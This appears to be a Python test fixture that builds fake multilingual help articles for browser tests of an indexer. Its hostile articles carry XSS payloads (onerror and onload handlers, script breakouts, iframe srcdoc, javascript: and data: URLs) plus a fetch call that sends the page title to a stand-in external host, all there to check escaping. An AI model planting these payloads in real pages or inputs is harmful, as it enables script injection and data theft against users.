"""The articles that the browser tests ask: plain ones in four languages, and hostile ones.

All of it is made up. The hostile ones hold in every text field what would run, load or navigate if
any of it were taken for markup or for a link.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from indexer import Drift, Edition, Passage
from tests.fake_index import FakeArticle, FakeIndex

QUESTION = "When is a refund paid?"
FIRST = "A refund is paid within ten days."
LATER = "A refund is not paid in cash, ever."
CASH_QUESTION = "Is a refund paid in cash?"
ODD_QUESTION = "Does Norway tax the refund that we got?"
STRANGE_QUESTION = "How are rabbits bred?"

GERMAN_FIRST = "Eine Erstattung wird binnen dreißig Tagen gezahlt."
GERMAN_SOURCE = "A refund is paid within thirty days."
JAPANESE_FIRST = "返金は十日以内に支払われます。"
ARABIC_FIRST = "يُدفع المبلغ المسترد خلال عشرة أيام."

REFUNDS = "partner-help/refunds"
ARTICLES = (
    FakeArticle(
        REFUNDS, "en-us", "Refunds and invoices",
        [
            ("when", "When it is paid", [(FIRST, None), ("A refund is paid to the card.", None)]),
            ("cash", "Cash", [(LATER, None)]),
        ],
        date(2024, 5, 14), ("Billing admin",),
    ),
    FakeArticle(
        REFUNDS, "de-de", "Erstattungen und Rechnungen",
        [
            ("when", "Wann gezahlt wird", [
                (GERMAN_FIRST, GERMAN_SOURCE),
                ("Eine Erstattung geht auf die Karte.", "A refund is paid to the card."),
            ]),
            ("cash", "Bargeld", [("Eine Erstattung wird nie bar gezahlt.", LATER)]),
        ],
        date(2021, 5, 18), ("Billing admin",),
    ),
    FakeArticle(
        REFUNDS, "ja-jp", "返金と請求書",
        [
            ("when", "支払いの時期", [
                (JAPANESE_FIRST, FIRST),
                ("返金はカードに支払われます。", "A refund is paid to the card."),
            ]),
            ("cash", "現金", [("現金で返金されることはありません。", LATER)]),
        ],
        date(2024, 5, 14), ("Billing admin",),
    ),
    FakeArticle(
        REFUNDS, "ar-sa", "المبالغ المستردة والفواتير",
        [
            ("when", "موعد الدفع", [
                (ARABIC_FIRST, FIRST),
                ("يُدفع المبلغ المسترد إلى البطاقة.", "A refund is paid to the card."),
            ]),
            ("cash", "نقدًا", [("لا يُدفع المبلغ المسترد نقدًا أبدًا.", LATER)]),
        ],
        date(2024, 5, 14), ("Billing admin",),
    ),
)  # fmt: skip
DRIFTS = {
    (REFUNDS, "de-de"): Drift(
        newest_locale="en-us",
        newest_handed_over=date(2024, 5, 14),
        sentence_changed=True,
        newest_source=FIRST,
    )
}

# What a script of an article would do, were there a way for it to run: leave a mark, call elsewhere.
STRUCK = "window.struck=1;fetch('https://elsewhere.example/'+document.title)"
# An answer has sentences of three articles at most.
HOSTILE_QUESTIONS = ("zebra stripes zebra", "zebra stripes 3 iframe srcdoc")
HOSTILE_LOCALE = "fr-fr"
HOSTILE_ODD_QUESTION = "Does Norway tax the zebra stripes that we got?"
HOSTILE_MARKUP = (
    f'<img src=x onerror="{STRUCK}">',
    f"<svg onload={STRUCK!r}><a href='https://elsewhere.example/'>zebra</a></svg>",
    f"</script></style></textarea><script>{STRUCK}</script>",
    f"<iframe srcdoc='<script>parent.{STRUCK}</script>'></iframe>",
)
HOSTILE_URLS = (
    f"javascript:{STRUCK}//",
    f"\tJaVaScRiPt:{STRUCK}//",
    f"data:text/html,<script>{STRUCK}</script>",
    f"https://example.com/\"onmouseover=\"{STRUCK}\"><img src=x onerror={STRUCK!r}>#zebra",
)  # fmt: skip


class BrowserIndex(FakeIndex):
    """The fake index over these articles."""

    def __init__(self) -> None:
        hostile = [_hostile_article(number) for number in range(len(HOSTILE_URLS))]
        super().__init__(articles=(*ARTICLES, *hostile), drifts={**_drifts(), **_hostile_drifts()})
        for passage_id, passage in self._passages.items():
            for number, url in enumerate(HOSTILE_URLS):
                if passage.edition.path == _hostile_path(number):
                    self._passages[passage_id] = _with_url(passage, url)


def _drifts() -> dict[tuple[str, str], Drift]:
    return {(locale, path): drift for (path, locale), drift in DRIFTS.items()}


def _hostile_path(number: int) -> str:
    return f"partner-help/zebra-{number}"


def _hostile_article(number: int) -> FakeArticle:
    markup = HOSTILE_MARKUP[number]
    target = f"Die zebra stripes zebra {number} {markup} [zebra](javascript:{STRUCK})"
    return FakeArticle(
        _hostile_path(number),
        HOSTILE_LOCALE,
        f"zebra {markup}",
        [("top", f"stripes {markup}", [(target, f"The zebra stripes {number} {markup}")])],
        date(2021, 5, 18),
        (markup,),
    )


def _hostile_drifts() -> dict[tuple[str, str], Drift]:
    return {
        (HOSTILE_LOCALE, _hostile_path(number)): Drift("en-us", date(2024, 5, 14), True, markup)
        for number, markup in enumerate(HOSTILE_MARKUP)
    }


def _with_url(passage: Passage, url: str) -> Passage:
    edition: Edition = replace(passage.edition, url=url)
    return replace(passage, url=url, edition=edition)
